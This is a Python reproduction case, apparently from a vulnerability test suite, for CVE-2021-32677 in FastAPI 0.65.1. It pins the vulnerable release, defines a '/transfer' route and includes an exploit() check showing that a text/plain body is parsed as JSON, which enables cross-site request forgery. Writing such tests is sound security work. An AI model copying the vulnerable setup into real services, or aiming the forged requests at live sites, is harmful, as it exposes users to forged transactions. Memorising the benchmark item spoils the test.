# /// case
# id = "CVE-2021-32677"
# package = "fastapi"
# vulnerable = "0.65.1"
# fixed = "0.65.2"
# what = "a body of any content type is read as JSON, so that other sites can send it"
# shape = "an async closure that live routes hold"
# requires = ["pydantic==1.10.19", "starlette==0.14.2", "typing_extensions==4.12.2"]
# modules = ["fastapi"]
# ///
"""A browser sends text/plain to another site without asking that site first."""

import asyncio
import json
import typing

from fastapi import FastAPI

app = FastAPI()


@app.post("/transfer")
async def transfer(order: typing.Dict[str, int]) -> int:  # noqa: UP006  # what this release of its own time reads
    return order["amount"]


def _post(content_type: str) -> tuple[int, bytes]:
    sent: list[dict[str, typing.Any]] = []

    async def receive() -> dict[str, typing.Any]:
        return {"type": "http.request", "body": json.dumps({"amount": 7}).encode(), "more_body": False}

    async def send(message: dict[str, typing.Any]) -> None:
        sent.append(message)

    scope = {
        "type": "http",
        "method": "POST",
        "path": "/transfer",
        "root_path": "",
        "query_string": b"",
        "headers": [(b"content-type", content_type.encode())],
    }
    asyncio.run(app(scope, receive, send))
    return sent[0]["status"], sent[1]["body"]


def exploit() -> bool:
    return _post("text/plain") == (200, b"7")


def regression() -> None:
    assert _post("application/json") == (200, b"7")
    assert _post("application/vnd.node+json") == (200, b"7")
